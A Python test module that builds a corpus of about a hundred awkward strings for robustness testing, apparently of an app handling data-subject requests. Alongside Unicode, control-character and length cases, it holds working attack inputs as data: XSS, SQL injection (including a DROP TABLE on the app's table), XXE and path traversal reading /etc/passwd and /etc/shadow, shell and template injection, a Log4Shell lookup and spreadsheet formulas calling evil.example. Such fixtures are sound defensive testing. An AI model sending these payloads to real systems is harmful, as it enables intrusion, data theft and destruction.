"""Texts that break careless programs: some hundred, each a single line that a database can store."""

from typing import Final

_MARKUP: Final = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "</textarea><script>alert(1)</script>",
    "</title><b>",
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "&lt;b&gt;&amp;amp;&#0;&#x1F;",
    "javascript:alert(1)",
    "<a href='javas&#99;ript:1'>x</a>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='<b>'>",
    "<math><mtext></form><form>",
    "' autofocus onfocus=alert(1) x='",
    "`${alert(1)}`",
    "<base href=//evil.example>",
]
_CODE: Final = [
    "'; DROP TABLE dsar_subjectrequest; --",
    "1' OR '1'='1",
    "\\'; SELECT pg_sleep(9); --",
    "$$; COMMIT; $$",
    "%27%20OR%201=1",
    "{{ 7|add:7 }}",
    "{% now 'Y' %}",
    "{% load static %}{{ request.user.password }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%s%n%(name)s",
    "$(reboot)",
    "`reboot`",
    "; cat /etc/passwd |",
    "|| ping -c 9 127.0.0.1",
    "() { :; }; echo x",
    "__import__('os').system('id')",
    "!!python/object/apply:os.system [id]",
    "${jndi:ldap://evil.example/a}",
    "*)(uid=*))(|(uid=*",
    "\\N{DIGIT ONE}\\x00\\u0000",
    "\\",
    "\\\\",
    "\\0",
    "(?:a+)+$",
]
_FORMULAS: Final = [
    start + rest
    for start in ("=", "+", "-", "@", "\t=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\u200b=", "'=")
    for rest in ("1+1", 'HYPERLINK("http://evil.example")', "cmd|' /C calc'!A0")
]
_PATHS: Final = [
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "/dev/null",
    "C:\\con\\con",
    "file:///etc/shadow",
    "a/../../b",
    "nul",
    "COM1",
    ".htaccess",
    "~root",
    "%2e%2e%2f",
    "..%c0%af",
    "//evil.example/share",
    "x" * 255 + ".txt",
]
_NOTHING: Final = [
    "undefined",
    "null",
    "None",
    "NaN",
    "-0",
    "1e999",
    "0x",
    "true",
    "[]",
    "{}",
    "NULL",
    "nil",
    "\\N",
    "-",
]
_NUMBERS: Final = [
    f"{base}{tail}" for base in ("0", "1", "9" * 40, "٣", "Ⅷ", "½") for tail in ("", ".5", ",5", "e9", "%")
]
_CONTROLS: Final = [f"a{chr(code)}b" for code in (*range(1, 10), 11, 12, *range(14, 32), *range(127, 160))]
_INVISIBLE: Final = [
    f"a{chr(code)}b"
    for code in (
        *(0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x180E, 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFC),
        *range(0x2000, 0x2010),
        *range(0x2028, 0x2030),
        *range(0x205F, 0x2070),
        *(0xE0001, 0xE0020, 0xE007F, 0xE0100),
    )
]
_DIRECTIONS: Final = [
    "\u202egnp.exe",
    "\u202dabc\u202c",
    "\u2066\u2067\u2069",
    "שלום abc עולם",
    "مرحبا 123 بالعالم",
    "\u200fabc\u200e",
    "\u061cabc",
    "ابجد" * 20,
]
_LETTERS: Final = [
    "Āčēģīķļņšūž",
    "Ḁ̈́́",
    "ẞßſ",
    "İıiI",
    "ǅǆ",
    "ﬀﬃ",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんにあげて下さい",
    "社會科學院語學研究所",
    "찦차를 타고 온 펲시맨",
    "Здравствуйте, «мир»",
    "สวัสดีครับ",
    "नमस्ते",
    "ᚠᛇᚻ᛫ᛒᛦᚦ",
    "ｆｕｌｌ　ｗｉｄｔｈ",
    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
    "\u0130\u0307",
    "e\u0301 \u00e9",
    "\u1100\u1161\u11a8 각",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1f1\U0001f1fb\U0001f1f1",
    "\U0001f44d\U0001f3ff",
    "❤\ufe0f ❤\ufe0e",
    "\U0010ffff\U000f0000",
    "\uffff\ufdd0",
    "Z\u0351\u036b\u0343\u036a\u0302" * 40,
    "H̡͖̫A̸L͞L̶O̷" * 20,
    "\u0300\u0301\u0302",
    "ﷺ" * 50,
    "𒐫" * 20,
]
_HEADERS: Final = [
    "Bcc: a@example.lv",
    "%0d%0aSet-Cookie: a=b",
    "=?utf-8?q?=3Cb=3E?=",
    "From: admin@qlekta.example",
    "Content-Type: text/html",
    '"quoted" <a@b>',
    ".",
    "--boundary--",
]
_LONG: Final = ["a" * 2000, "ā" * 2000, "\U0001f4a9" * 1000, "<b>" * 600, "&" * 1500, "=" * 1500, "a " * 1000 + "z"]
_PAIRS: Final = [left + right for left in "<>&'\"`=%\\/{}" for right in "<>&'\"`=%\\/{}"]

CORPUS: Final = list(
    dict.fromkeys(
        [
            *_MARKUP, *_CODE, *_FORMULAS, *_PATHS, *_NOTHING, *_NUMBERS, *_CONTROLS, *_INVISIBLE, *_DIRECTIONS,
            *_LETTERS, *_HEADERS, *_LONG, *_PAIRS,
        ]
    )
)  # fmt: skip
"""Without NUL, U+FFFD, lone surrogates and line ends: those are refused or spelt anew, and have tests of their own."""

_BETWEEN: Final = " ¶ "


def packs(*, longest: int, corpus: list[str] = CORPUS) -> list[str]:
    """The whole corpus in as few texts as fit: each begins and ends with a mark that no form strips."""
    found: list[str] = []
    text = "¶"
    for item in corpus:
        if len(text) + len(item) + 2 * len(_BETWEEN) > longest:
            found.append(text + _BETWEEN.strip())
            text = "¶"
        text += _BETWEEN + item
    return [*found, text + _BETWEEN.rstrip()]
